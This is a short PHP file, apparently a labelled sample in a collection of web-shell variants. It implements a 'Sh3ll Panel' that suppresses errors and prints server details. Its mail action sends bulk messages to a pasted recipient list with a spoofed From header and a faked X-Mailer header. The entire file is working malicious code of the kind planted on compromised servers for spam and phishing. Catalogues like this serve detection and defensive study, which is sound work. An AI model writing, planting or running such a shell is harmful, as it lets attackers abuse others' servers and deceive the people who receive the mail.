<?php
// Family: mailer/shell-tab
// Style: mail tab inside a larger web panel
// Trait: panel with action switch; the mail action sends the request list through mail() with spoofed From
error_reporting(0);
$act = isset($_REQUEST['a']) ? $_REQUEST['a'] : 'info';
function panel_header() { echo '<html><title>Sh3ll Panel</title><body>'; }
panel_header();
switch ($act) {
case 'info':
	echo php_uname() . '<br>' . getcwd();
	break;
case 'mail':
	if (!empty($_POST['to'])) {
		$rc = preg_split("/\r?\n/", $_POST['to']);
		foreach ($rc as $x) {
			@mail($x, $_POST['subj'], $_POST['msg'], 'From: ' . $_POST['from'] . "\r\nX-Mailer: Outlook Express");
		}
		echo 'Mail sent to ' . count($rc) . ' addresses';
	}
	echo '<form method=post><input name=from><input name=subj><textarea name=to></textarea><textarea name=msg></textarea><input type=hidden name=a value=mail><input type=submit></form>';
	break;
}
